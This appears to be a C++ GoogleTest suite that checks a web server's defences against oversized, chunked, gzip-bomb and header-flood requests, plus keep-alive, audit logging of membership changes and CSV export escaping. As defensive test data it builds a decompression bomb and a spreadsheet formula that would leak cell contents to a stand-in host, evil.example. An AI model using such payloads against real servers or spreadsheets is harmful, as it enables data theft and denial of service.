// What the server reads is bounded before it reads it: oversized, chunked, compressed and
// header-heavy requests to any path are refused without the process growing; keep-alive carries
// many requests; membership changes reach the organisation's audit log. On every backend.
#include <arpa/inet.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>
#include <zlib.h>

#include <fstream>
#include <string>

#include "app/accounts/accounts.hpp"
#include "core/utf8.hpp"
#include "server/compression.hpp"
#include "tests/api/api_testing.hpp"

namespace jamlik::server::testing {
namespace {

using nlohmann::json;

constexpr std::size_t kMaxUpload = 64 * 1024;

// One client connection that writes raw bytes and reads whole responses, so a test controls
// exactly what the server is sent (a length it never sends, a header count no client library
// allows) and sees whether the connection stays open.
class RawConnection {
 public:
  explicit RawConnection(int port) : socket_(::socket(AF_INET, SOCK_STREAM, 0)) {
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_port = htons(static_cast<std::uint16_t>(port));
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    timeval timeout{10, 0};
    setsockopt(socket_, SOL_SOCKET, SO_RCVTIMEO, &timeout, sizeof(timeout));
    connected_ = ::connect(socket_, reinterpret_cast<sockaddr*>(&address), sizeof(address)) == 0;
  }
  ~RawConnection() { ::close(socket_); }
  RawConnection(const RawConnection&) = delete;
  RawConnection& operator=(const RawConnection&) = delete;

  bool connected() const { return connected_; }

  // Write what the peer takes; false once it has closed the connection.
  bool Write(const std::string& bytes) {
    std::size_t sent = 0;
    while (sent < bytes.size()) {
      const ssize_t n = ::send(socket_, bytes.data() + sent, bytes.size() - sent, MSG_NOSIGNAL);
      if (n <= 0) return false;
      sent += static_cast<std::size_t>(n);
    }
    return true;
  }

  struct Response {
    int status = 0;
    std::string headers;  // lower-cased
    std::string body;
  };

  // Read one response (status line, headers, a Content-Length body); status 0 when none came.
  Response Read() {
    Response response;
    std::size_t end = std::string::npos;
    while ((end = buffer_.find("\r\n\r\n")) == std::string::npos) {
      if (!Fill()) return response;
    }
    response.headers = buffer_.substr(0, end);
    for (auto& c : response.headers) c = static_cast<char>(std::tolower(c));
    response.status = std::stoi(buffer_.substr(9, 3));
    std::size_t length = 0;
    if (const auto at = response.headers.find("content-length: "); at != std::string::npos) {
      length = std::stoul(response.headers.substr(at + 16));
    }
    buffer_.erase(0, end + 4);
    while (buffer_.size() < length) {
      if (!Fill()) break;
    }
    response.body = buffer_.substr(0, length);
    buffer_.erase(0, std::min(length, buffer_.size()));
    return response;
  }

 private:
  bool Fill() {
    char chunk[4096];
    const ssize_t n = ::recv(socket_, chunk, sizeof(chunk), 0);
    if (n <= 0) return false;
    buffer_.append(chunk, static_cast<std::size_t>(n));
    return true;
  }

  int socket_;
  bool connected_ = false;
  std::string buffer_;
};

std::size_t ResidentKiB() {
  std::ifstream status("/proc/self/status");
  std::string line;
  while (std::getline(status, line)) {
    if (line.starts_with("VmRSS:")) return std::stoul(line.substr(6));
  }
  return 0;
}

std::string Gzip(const std::string& text) {
  z_stream stream{};
  deflateInit2(&stream, Z_BEST_COMPRESSION, Z_DEFLATED, 15 + 16, 9, Z_DEFAULT_STRATEGY);
  std::string out(deflateBound(&stream, text.size()) + 32, '\0');
  stream.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(text.data()));
  stream.avail_in = static_cast<uInt>(text.size());
  stream.next_out = reinterpret_cast<Bytef*>(out.data());
  stream.avail_out = static_cast<uInt>(out.size());
  deflate(&stream, Z_FINISH);
  out.resize(stream.total_out);
  deflateEnd(&stream);
  return out;
}

class RobustnessTest : public ApiTest {
 protected:
  void Configure(ServerConfig& config) override { config.max_upload_bytes = kMaxUpload; }

  void SetUp() override {
    ApiTest::SetUp();
    if (IsSkipped()) return;
    org_ = app::CreateOrganisation(store(), "1880", "Örebro", app::OrganisationKind::kKommun)->id;
    const auto anna = app::CreateUser(store(), "anna@example.se", "Anna", kPassword, false);
    app::SetMembership(store(), anna->id, org_, app::Role::kAdmin);
  }

  std::string Path(const std::string& rest) const {
    return "/api/organisations/" + std::to_string(org_) + rest;
  }

  // Send a request head announcing `length` bytes, then some of them, and read the answer.
  RawConnection::Response Announce(const std::string& method, const std::string& path,
                                   std::size_t length, const std::string& extra_headers = {}) {
    RawConnection connection(port_);
    EXPECT_TRUE(connection.connected());
    connection.Write(method + " " + path + " HTTP/1.1\r\nHost: 127.0.0.1\r\n" + extra_headers +
                     "Content-Length: " + std::to_string(length) + "\r\n\r\n");
    // The server answers before reading the body; whatever it does not read is refused.
    const std::string megabyte(std::size_t{1} << 20, 'x');
    for (int i = 0; i < 8 && connection.Write(megabyte); ++i) {
    }
    return connection.Read();
  }

  std::int64_t org_ = 0;
};

TEST_P(RobustnessTest, AnOversizedBodyToAnyPathIsRefusedWithoutGrowingTheServer) {
  const std::size_t before = ResidentKiB();
  const std::size_t huge = std::size_t{800} << 20;
  for (const std::string& path :
       {std::string("/assets/app.js"), std::string("/nowhere"), std::string("/api/nothing"),
        std::string("/api/auth/login"), Path("/analyses"), Path("/datasets")}) {
    const auto response =
        Announce("POST", path, huge, "Content-Type: application/octet-stream\r\n");
    EXPECT_EQ(response.status, 413) << path;
    EXPECT_NE(response.headers.find("application/problem+json"), std::string::npos) << path;
    EXPECT_NE(response.headers.find("connection: close"), std::string::npos) << path;
  }
  // Six 800 MB requests; a server that read them would have grown by gigabytes.
  EXPECT_LT(ResidentKiB(), before + 16 * 1024);
}

// A large body is offered gzip (when the client accepts it) instead of httplib's slow brotli.
TEST(LargeBodyCompression, BrotliIsTakenOutAndGzipKeptOnlyWhenAccepted) {
  EXPECT_EQ(AcceptedWithoutBrotli("gzip, deflate, br"), "gzip");  // Chromium's
  EXPECT_EQ(AcceptedWithoutBrotli("br;q=1.0, GZip;q=0.8, *;q=0.1"), "gzip");
  EXPECT_EQ(AcceptedWithoutBrotli("br"), "");
  EXPECT_EQ(AcceptedWithoutBrotli("gzip;q=0, br"), "");
  EXPECT_EQ(AcceptedWithoutBrotli("gzip ; q=0.000"), "");
  EXPECT_EQ(AcceptedWithoutBrotli("x-gzip-ish, identity"), "");
  EXPECT_EQ(AcceptedWithoutBrotli(""), "");
}

TEST_P(RobustnessTest, ChunkedCompressedAndHeaderHeavyRequestsAreRefusedOutsideTheUpload) {
  RawConnection chunked(port_);
  chunked.Write(
      "POST /nowhere HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n\r\n"
      "5\r\nhello\r\n");
  EXPECT_EQ(chunked.Read().status, 411);

  httplib::Client client("127.0.0.1", port_);
  const std::string bomb = Gzip(std::string(std::size_t{8} << 20, '{'));
  httplib::Headers gzip = {{"Content-Encoding", "gzip"}};
  const auto compressed = client.Post("/api/auth/login", gzip, bomb, "application/json");
  ASSERT_TRUE(compressed);
  EXPECT_EQ(compressed->status, 415);

  RawConnection headers(port_);
  std::string request = "GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n";
  for (int i = 0; i < 150; ++i) request += "X-Filler-" + std::to_string(i) + ": x\r\n";
  headers.Write(request + "\r\n");
  EXPECT_EQ(headers.Read().status, 431);
}

// The limit counts what is written to disk: a small gzip body that inflates past it is refused
// and leaves no file, and a plain upload under the limit is stored.
TEST_P(RobustnessTest, AnUploadCountsItsDecompressedBytesAgainstTheLimit) {
  Browser browser(port_);
  ASSERT_EQ(browser.LogIn("anna@example.se", kPassword), 200);
  std::string csv = "kommun;kon;antal\n";
  while (csv.size() < 4 * kMaxUpload) csv += "1880;K;1\n";
  const std::string compressed = Gzip(csv);
  ASSERT_LT(compressed.size(), kMaxUpload / 4);

  httplib::Client client("127.0.0.1", port_);
  httplib::Headers headers = browser.headers();
  headers.emplace("X-CSRF-Token", browser.csrf_token());
  headers.emplace("Content-Encoding", "gzip");
  const auto refused = client.Post(Path("/datasets?name=bomb"), headers, compressed, "text/csv");
  ASSERT_TRUE(refused);
  EXPECT_EQ(refused->status, 413) << refused->body;
  EXPECT_EQ(JsonOf(browser.Get(Path("/datasets"))).at("datasets").size(), 0U);
  EXPECT_FALSE(std::filesystem::exists(std::filesystem::path(data_dir()) / "uploads") &&
               !std::filesystem::is_empty(std::filesystem::path(data_dir()) / "uploads"));

  const auto stored =
      browser.Upload(Path("/datasets"), "liten.csv", "kommun;kon;antal\n1880;K;1\n");
  ASSERT_TRUE(stored);
  EXPECT_EQ(stored->status, 201) << stored->body;
}

// Before, the library's default closed every connection after 5 requests.
TEST_P(RobustnessTest, OneKeepAliveConnectionCarriesHundredsOfRequests) {
  RawConnection connection(port_);
  for (int i = 0; i < 300; ++i) {
    ASSERT_TRUE(connection.Write("GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")) << i;
    const auto response = connection.Read();
    ASSERT_EQ(response.status, 200) << "request " << i;
    ASSERT_EQ(response.headers.find("connection: close"), std::string::npos) << "request " << i;
  }
}

// A site administrator reads an organisation's data only as its member; becoming one is seen by
// the organisation's admins in its audit log, as is every other change of membership.
TEST_P(RobustnessTest, ASiteAdministratorJoiningAnOrganisationIsInItsAuditLog) {
  app::CreateUser(store(), "site@example.se", "Site", kPassword, true);
  Browser site(port_);
  ASSERT_EQ(site.LogIn("site@example.se", kPassword), 200);
  // Not a member: invited, like anyone else, and in by accepting.
  ASSERT_EQ(site.Send("POST", Path("/members"), {{"email", "site@example.se"}, {"role", "reader"}})
                ->status,
            202);
  const json invitations = JsonOf(site.Get("/api/invitations")).at("invitations");
  ASSERT_EQ(invitations.size(), 1U);
  ASSERT_EQ(site.Send("POST", "/api/invitations/" +
                                  std::to_string(invitations[0].at("id").get<int>()) + "/accept")
                ->status,
            200);
  Browser anna(port_);
  ASSERT_EQ(anna.LogIn("anna@example.se", kPassword), 200);
  const json entries = JsonOf(anna.Get(Path("/audit-log"))).at("entries");
  ASSERT_EQ(entries.size(), 2U);
  EXPECT_EQ(entries[0].at("action"), "membership");
  EXPECT_EQ(entries[0].at("user"), "site@example.se");
  EXPECT_EQ(entries[0].at("table"), "site@example.se: reader (invitation accepted)");
  EXPECT_EQ(entries[1].at("table"), "site@example.se: invited as reader");

  const auto site_user = app::FindUserByEmail(store(), "site@example.se");
  ASSERT_EQ(anna.Send("DELETE", Path("/members/" + std::to_string(site_user->id)))->status, 204);
  const json after = JsonOf(anna.Get(Path("/audit-log"))).at("entries");
  ASSERT_EQ(after.size(), 3U);
  EXPECT_EQ(after[0].at("table"), "site@example.se: removed");
  EXPECT_EQ(after[0].at("user"), "anna@example.se");
}

// The CSV export at the API's door: an indicator named like a formula is exported as text.
TEST_P(RobustnessTest, TheCsvExportNeutralisesFormulas) {
  Browser browser(port_);
  ASSERT_EQ(browser.LogIn("anna@example.se", kPassword), 200);
  std::string csv = "kommun;kon;behorig\n";
  for (int i = 0; i < 400; ++i)
    csv += std::string(i % 2 ? "1880;" : "1881;") + (i % 3 ? "K;" : "M;") + (i % 4 ? "1\n" : "0\n");
  const auto uploaded = browser.Upload(Path("/datasets"), "a.csv", csv);
  ASSERT_EQ(uploaded->status, 201) << uploaded->body;
  const std::string formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"klicka\")";
  const json request = {{"name", "Formel"},
                        {"dataset_id", JsonOf(uploaded).at("id")},
                        {"areas", {"kommun"}},
                        {"dimensions", {"kon"}},
                        {"indicators",
                         {{{"id", "behorig"},
                           {"name_sv", formula},
                           {"type", "proportion"},
                           {"numerator", "behorig"},
                           {"higher_is_favourable", true}}}}};
  const auto created = browser.Send("POST", Path("/analyses"), request);
  ASSERT_EQ(created->status, 201) << created->body;
  const auto exported = browser.Get(Path(
      "/analyses/" + std::to_string(JsonOf(created).at("id").get<int>()) + "/export?format=csv"));
  ASSERT_EQ(exported->status, 200);
  EXPECT_NE(exported->body.find("\"'=HYPERLINK("), std::string::npos)
      << exported->body.substr(0, 400);
  EXPECT_EQ(exported->body.find(";\"=HYPERLINK("), std::string::npos);
  EXPECT_EQ(exported->body.find(",\"=HYPERLINK("), std::string::npos);
}

INSTANTIATE_TEST_SUITE_P(Backends, RobustnessTest, ::testing::ValuesIn(store::testing::Backends()),
                         store::testing::BackendName);

}  // namespace
}  // namespace jamlik::server::testing
